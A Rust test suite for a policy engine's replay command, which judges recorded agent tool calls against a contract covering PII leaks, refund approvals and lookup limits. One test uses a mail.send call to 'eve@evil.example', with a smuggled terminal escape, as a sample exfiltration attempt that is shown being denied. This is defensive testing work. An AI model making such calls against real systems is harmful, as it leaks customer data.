//! `leverframe replay`: what each line of a record means, and what the decisions look like.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test fails where these do")]

mod support;

use std::fs;
use std::io::Write;

use serde_json::json;
use support::{Bench, texts};

const SHOP: &str = r#"language 1
label pii sensitive
event user.message(text: string)
tool crm.find(id: string)
tool mail.send(to: string, body: string?)
tool pay.refund(amount: int)
effect crm.find returns pii
effect mail.send sends

persona support {
  allow crm.find, mail.send
  on pay.refund {
    amount <= 100 => allow,
    amount <= 1000 => ask by "a team lead",
    otherwise => deny "too much"
  }
  limit 2 crm.find per session
  otherwise deny
}

forbid leak "customer data stays in" { any returns pii then mail.send }
require told "the customer is told first" { user.message before pay.refund }
"#;

fn call(tool: &str, args: &str) -> String {
    format!(r#"{{"session":"s","persona":"support","tool":"{tool}","args":{args}}}"#)
}

fn lines(lines: &[String]) -> String {
    lines.join("\n") + "\n"
}

#[test]
fn a_decision_says_all_that_the_contract_names() {
    let bench = Bench::built(SHOP);
    let line = r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"id":"42","at":"2026-11-23T11:00:00+01:00"}"#;
    let decisions = bench.replay(&lines(&[line.to_owned(), call("mail.send", r#"{"to":"x"}"#)]));
    let frame = decisions[0]["frame"].as_str().unwrap();
    assert!(frame.starts_with("sha256:") && frame.len() == 71);
    assert_eq!(
        decisions[0],
        json!({"version":1,"line":1,"id":"42","session":"s","step":1,"tool":"crm.find","verdict":"allow","rule":"support.allow#1",
               "rules":["support.allow#1"],"observed":[],"code":"rule","message":null,"who":[],"labels":[],
               "at":"2026-11-23T10:00:00.000Z","frame":frame})
    );
    assert_eq!(
        decisions[1],
        json!({"version":1,"line":2,"id":null,"session":"s","step":2,"tool":"mail.send","verdict":"deny","rule":"leak","rules":["leak"],
               "observed":[],"code":"rule","message":"customer data stays in","who":[],"labels":["pii"],
               "at":"2026-11-23T10:00:00.001Z","frame":frame})
    );
}

#[test]
fn members_stand_in_the_contract_s_order() {
    let bench = Bench::built(SHOP);
    bench.write("trace.jsonl", &lines(&[call("crm.find", r#"{"id":"c"}"#)]));
    let ran = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl"]);
    let members = [
        "version", "line", "id", "session", "step", "tool", "verdict", "rule", "rules", "observed", "code", "message", "who", "labels",
        "at", "frame",
    ];
    let places: Vec<usize> = members.iter().map(|member| ran.out.find(&format!("\"{member}\":")).unwrap()).collect();
    assert!(places.is_sorted(), "{}", ran.out);
}

#[test]
fn malformed_arguments_decide_all_the_same() {
    let bench = Bench::built(SHOP);
    let odd = [
        r#"{"amount":1,"amount":2}"#,
        r#"{"amount":100000000000000000000}"#,
        r#"{"amount":"\ud83e"}"#,
        r#"{"amount":1,"AMOUNT":1}"#,
        "null",
        "[]",
        "3",
    ];
    let decisions = bench.replay(&lines(&odd.map(|args| call("pay.refund", args))));
    assert_eq!(decisions.len(), odd.len());
    for decision in &decisions {
        assert_eq!(
            (&decision["verdict"], &decision["code"], &decision["rule"]),
            (&json!("deny"), &json!("malformed_arguments"), &json!(null))
        );
    }
}

#[test]
fn unknown_names_are_denied_by_code() {
    let bench = Bench::built(SHOP);
    let stranger = r#"{"session":"t","persona":"stranger","tool":"crm.find","args":{"id":"c"}}"#.to_owned();
    let decisions = bench.replay(&lines(&[call("no.such", "{}"), stranger]));
    assert_eq!(texts(&decisions, "code"), ["unknown_tool", "unknown_persona"]);
    assert_eq!(texts(&decisions, "verdict"), ["deny", "deny"]);
}

#[test]
fn a_call_without_a_result_succeeded_where_it_stands() {
    let bench = Bench::built(SHOP);
    let decisions = bench.replay(&lines(&[call("crm.find", r#"{"id":"c"}"#), call("mail.send", r#"{"to":"x"}"#)]));
    assert_eq!(texts(&decisions, "verdict"), ["allow", "deny"]);
}

#[test]
fn a_result_in_a_line_of_its_own_comes_there() {
    let bench = Bench::built(SHOP);
    let find = r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"id":"1"}"#.to_owned();
    let result = r#"{"result_of":"1","result":{"ok":true,"content":"x"}}"#.to_owned();
    let send = call("mail.send", r#"{"to":"x"}"#);
    let decisions = bench.replay(&lines(&[find, send.clone(), result, send]));
    assert_eq!(texts(&decisions, "verdict"), ["allow", "allow", "deny"]);
}

#[test]
fn a_failed_result_without_content_carries_nothing() {
    let bench = Bench::built(SHOP);
    let find = |session: &str, result: &str| {
        format!(r#"{{"session":"{session}","persona":"support","tool":"crm.find","args":{{"id":"c"}},"result":{result}}}"#)
    };
    let send = |session: &str| format!(r#"{{"session":"{session}","persona":"support","tool":"mail.send","args":{{"to":"x"}}}}"#);
    let decisions = bench.replay(&lines(&[
        find("a", r#"{"ok":false}"#),
        send("a"),
        find("b", r#"{"ok":false,"content":"no such customer, but Ms Example lives at 12"}"#),
        send("b"),
    ]));
    assert_eq!(texts(&decisions, "verdict"), ["allow", "allow", "allow", "deny"]);
}

#[test]
fn sessions_interleave_and_keep_their_steps() {
    let bench = Bench::built(SHOP);
    let find = |session: &str| format!(r#"{{"session":"{session}","persona":"support","tool":"crm.find","args":{{"id":"c"}}}}"#);
    let decisions = bench.replay(&lines(&[find("a"), find("b"), find("a"), find("a"), find("b")]));
    assert_eq!(texts(&decisions, "verdict"), ["allow", "allow", "allow", "deny", "allow"]);
    assert_eq!(decisions.iter().map(|decision| decision["step"].as_u64().unwrap()).collect::<Vec<_>>(), [1, 1, 2, 3, 2]);
    assert_eq!(decisions[3]["rule"], "support.limit#1");
}

#[test]
fn approval_answers_an_ask_and_nothing_else() {
    let bench = Bench::built(SHOP);
    let event = r#"{"session":"s","event":"user.message","args":{"text":"refund me"}}"#.to_owned();
    let refund = |amount: u32, approved: &str| {
        format!(r#"{{"session":"s","persona":"support","tool":"pay.refund","args":{{"amount":{amount}}}{approved}}}"#)
    };
    let decisions = bench.replay(&lines(&[
        refund(50, ""),
        event,
        refund(50, ""),
        refund(500, ""),
        refund(500, r#","approved":true"#),
        refund(5000, r#","approved":true"#),
    ]));
    assert_eq!(texts(&decisions, "verdict"), ["deny", "allow", "ask", "ask", "deny"]);
    assert_eq!(decisions[0]["rule"], "told");
    assert_eq!(decisions[2]["who"], json!(["a team lead"]));
    assert_eq!(decisions[4]["message"], "too much");
}

fn stops(trace: &str, words: &str) {
    let bench = Bench::built(SHOP);
    bench.write("trace.jsonl", trace);
    let ran = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl"]);
    assert_eq!(ran.exit, Some(2), "{trace}");
    assert!(ran.err.contains("trace.jsonl:2:") && ran.err.contains(words), "{}", ran.err);
    // What came before the error was decided and written; nothing after it was.
    assert_eq!(ran.decisions().len(), 1);
    let on = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl", "--keep-going"]);
    assert_eq!(on.exit, Some(2));
    assert_eq!(on.decisions().len(), 2, "{}", on.err);
}

#[test]
fn errors_of_the_record_stop_the_run_and_name_the_line() {
    let good = call("crm.find", r#"{"id":"c"}"#);
    let bad = [
        ("not json", "expected"),
        ("[1,2]", "must be a JSON object"),
        (r#"{"session":"s"}"#, "`tool`"),
        (r#"{"session":"s","persona":"support","tool":"crm.find"}"#, "`args`"),
        (r#"{"session":"s","persona":7,"tool":"crm.find","args":{}}"#, "expected a string"),
        (r#"{"session":"s","event":"user.typed","args":{}}"#, "no event `user.typed`"),
        (r#"{"session":"s","event":"user.message","args":{"text":7}}"#, "do not fit"),
        (r#"{"result_of":"9","result":{"ok":true}}"#, "no line before"),
        (
            r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"result":{"ok":true,"labels":["secret"]}}"#,
            "no label `secret`",
        ),
        (r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"at":"noon"}"#, "RFC 3339"),
    ];
    for (line, words) in bad {
        stops(&lines(&[good.clone(), line.to_owned(), good.clone()]), words);
    }
}

#[test]
fn a_second_result_of_a_call_is_an_error_and_the_first_one_counts() {
    let bench = Bench::built(SHOP);
    let trace = lines(&[
        r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"id":"1"}"#.to_owned(),
        r#"{"result_of":"1","result":{"ok":false}}"#.to_owned(),
        r#"{"result_of":"1","result":{"ok":true,"content":"x"}}"#.to_owned(),
        call("mail.send", r#"{"to":"x"}"#),
    ]);
    bench.write("trace.jsonl", &trace);
    let ran = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl", "--keep-going"]);
    assert_eq!(ran.exit, Some(2));
    assert!(ran.err.contains("trace.jsonl:3:"), "{}", ran.err);
    assert_eq!(texts(&ran.decisions(), "verdict"), ["allow", "allow"]);
}

#[test]
fn expectations_that_are_not_met_are_listed() {
    let bench = Bench::built(SHOP);
    let line = |expect: &str| format!(r#"{{"session":"s","persona":"support","tool":"mail.send","args":{{"to":"x"}},{expect}}}"#);
    bench.write("good.jsonl", &lines(&[line(r#""expect":"allow","expect_rule":["x","support.allow#1"],"expect_code":"rule""#)]));
    bench.write(
        "bad.jsonl",
        &lines(&[call("crm.find", r#"{"id":"c"}"#), line(r#""expect":"allow""#), line(r#""expect":"deny","expect_rule":"other""#)]),
    );
    let good = bench.run(&["replay", "policy.frame", "good.jsonl", "--expect"]);
    assert_eq!(good.exit, Some(0), "{}{}", good.out, good.err);
    assert!(good.out.contains("1 of 1 expectations met"), "{}", good.out);
    let bad = bench.run(&["replay", "policy.frame", "bad.jsonl", "--expect"]);
    assert_eq!(bad.exit, Some(1));
    assert!(bad.out.contains("bad.jsonl:2: mail.send: `expect` is \"allow\", the decision has \"deny\""), "{}", bad.out);
    assert!(bad.out.contains("bad.jsonl:3: mail.send: `expect_rule` is \"other\", the decision has \"leak\""), "{}", bad.out);
    assert!(bad.out.contains("0 of 2 expectations met"), "{}", bad.out);
    // Without the option expectations mean nothing.
    assert_eq!(bench.run(&["replay", "policy.frame", "bad.jsonl"]).exit, Some(0));
}

#[test]
fn the_story_says_who_was_stopped_by_which_rule_and_why() {
    let bench = Bench::built(SHOP);
    bench.write(
        "trace.jsonl",
        &lines(&[call("crm.find", r#"{"id":"c"}"#), call("mail.send", r#"{"to":"eve@evil.example","body":"\u001b[2J"}"#)]),
    );
    let ran = bench.run(&["replay", "policy.frame", "trace.jsonl"]);
    assert_eq!(ran.exit, Some(0));
    for part in [
        "session s",
        "mail.send(to: \"eve@evil.example\"",
        "by leak: customer data stays in",
        "the session has seen pii (from call 1, crm.find)",
        "2 calls in 1 session",
        "1 denied",
    ] {
        assert!(ran.out.contains(part), "{part} is missing in {}", ran.out);
    }
    assert!(!ran.out.contains('\u{1b}'), "styles and smuggled escapes stay out of a pipe: {:?}", ran.out);
}

#[test]
fn compressed_records_and_several_files() {
    let bench = Bench::built(SHOP);
    let text = lines(&[call("crm.find", r#"{"id":"c"}"#), call("crm.find", r#"{"id":"c"}"#)]);
    bench.write("a.jsonl", &text);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(text.as_bytes()).unwrap();
    fs::write(bench.path("b.jsonl.gz"), encoder.finish().unwrap()).unwrap();
    let ran = bench.run(&["replay", "policy.frame", "a.jsonl", "b.jsonl.gz", "--format", "jsonl", "--jobs", "2"]);
    assert_eq!(ran.exit, Some(0), "{}", ran.err);
    let decisions = ran.decisions();
    assert_eq!(texts(&decisions, "file"), ["a.jsonl", "a.jsonl", "b.jsonl.gz", "b.jsonl.gz"]);
    // The limit of two a session would have run out, were the second file's session the first's.
    assert_eq!(texts(&decisions, "verdict"), ["allow"; 4]);
}

#[test]
fn what_is_no_frame_and_what_is_no_record() {
    let bench = Bench::built(SHOP);
    bench.write("no.frame", "this is no frame");
    bench.write("trace.jsonl", "");
    let ran = bench.run(&["replay", "no.frame", "trace.jsonl"]);
    assert_eq!(ran.exit, Some(2));
    assert!(ran.err.contains("LF06"), "{}", ran.err);
    assert_eq!(bench.run(&["replay", "policy.frame", "absent.jsonl"]).exit, Some(2));
    assert_eq!(bench.run(&["replay", "policy.frame", "."]).exit, Some(2));
    let empty = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl"]);
    assert_eq!((empty.exit, empty.out.as_str()), (Some(0), ""));
}

#[test]
fn a_frame_with_any_byte_changed_is_refused() {
    let bench = Bench::built(SHOP);
    bench.write("trace.jsonl", "");
    let frame = fs::read(bench.path("policy.frame")).unwrap();
    for index in (0..frame.len()).step_by(frame.len() / 16 + 1) {
        let mut bytes = frame.clone();
        bytes[index] ^= 1;
        fs::write(bench.path("bad.frame"), bytes).unwrap();
        let ran = bench.run(&["replay", "bad.frame", "trace.jsonl"]);
        assert_eq!(ran.exit, Some(2), "byte {index} of {} may change", frame.len());
    }
}

#[test]
fn a_reader_that_goes_away_ends_the_run_quietly() {
    let bench = Bench::built(SHOP);
    let line = call("mail.send", r#"{"to":"x"}"#) + "\n";
    bench.write("trace.jsonl", &line.repeat(20_000));
    let mut command = bench.command();
    command.args(["replay", "policy.frame", "trace.jsonl", "--format", "jsonl"]);
    command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let err = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(!err.contains("panicked") && !err.contains("error:"), "{err}");
}
